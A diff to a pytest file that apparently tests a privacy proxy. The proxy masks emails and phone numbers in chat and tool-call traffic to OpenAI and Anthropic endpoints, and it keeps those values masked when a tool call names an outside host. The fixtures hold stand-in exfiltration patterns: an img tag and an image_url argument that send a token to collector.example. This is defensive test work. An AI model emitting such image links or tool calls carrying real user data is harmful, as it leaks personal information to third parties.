@@ -43,7 +43,12 @@ WANT = (f"Done. ![status]({IMAGE})\n<img src=\"//collector.example/i.gif?t={P}\"
         f"Your address is {MAIL}, [mail](mailto:{MAIL}), [call](tel:{PHONE}).")
 # A URL field without a scheme is a URL all the same (decoded whole, or read as its JSON key streams by).
 ARGS = {"url": FETCH, "image_url": f"collector.example/i?t={P}", "to": E, "note": f"call {P}"}
-WANT_ARGS = {"url": FETCH, "image_url": f"collector.example/i?t={P}", "to": MAIL, "note": f"call {PHONE}"}
+# scopes16: the call names collector.example, so it is a scope that sends: every placeholder in it stays, `to` and
+# `note` too (README "a scope that sends").
+WANT_ARGS = dict(ARGS)
+# The same values in a call that names no destination come back restored.
+LOCAL_ARGS = {"to": E, "note": f"call {P}"}
+WANT_LOCAL = {"to": MAIL, "note": f"call {PHONE}"}
 
 @pytest.fixture(scope="module", params=["screened", "restore_only"])
 def urls(request: pytest.FixtureRequest, proxy_factory: ProxyFactory) -> Proxy:
@@ -66,6 +71,10 @@ def test_chat(mock: Mock, urls: Proxy, stream: bool) -> None:
     sent_placeholders(mock)
     assert text == WANT
     assert json.loads(arguments) == WANT_ARGS
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
+    text, arguments = chat_text_and_arguments(oai(urls), PROMPT, stream)
+    assert text == WANT
+    assert json.loads(arguments) == WANT_LOCAL
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@@ -75,11 +84,20 @@ def test_responses(mock: Mock, urls: Proxy, stream: bool) -> None:
     sent_placeholders(mock)
     assert text == WANT
     assert calls == [WANT_ARGS]
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
+    text, calls = responses_text_and_calls(oai(urls), PROMPT, stream)
+    assert text == WANT
+    assert calls == [WANT_LOCAL]
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
 def test_anthropic(mock: Mock, urls: Proxy, stream: bool) -> None:
-    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "fetch", "arguments": ARGS}])
+    for args, want in ((ARGS, WANT_ARGS), (LOCAL_ARGS, WANT_LOCAL)):
+        anthropic_answer(mock, urls, stream, args, want)
+
+
+def anthropic_answer(mock: Mock, urls: Proxy, stream: bool, args: dict[str, Any], want: dict[str, Any]) -> None:
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "fetch", "arguments": args}])
     client = claude(urls).messages
     msgs: Any = [{"role": "user", "content": PROMPT}]
     if stream:
@@ -88,12 +106,12 @@ def test_anthropic(mock: Mock, urls: Proxy, stream: bool) -> None:
             final = s.get_final_message()
         partial = "".join(e.delta.partial_json for e in events if e.type == "content_block_delta"
                           and e.delta.type == "input_json_delta")
-        assert json.loads(partial) == WANT_ARGS
+        assert json.loads(partial) == want
     else:
         final = client.create(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs)
     sent_placeholders(mock)
     assert "".join(b.text for b in final.content if b.type == "text") == WANT
-    assert [b.input for b in final.content if b.type == "tool_use"] == [WANT_ARGS]
+    assert [b.input for b in final.content if b.type == "tool_use"] == [want]
 
 
 # ------------------------------------------------------------------------------------- url_citation annotations
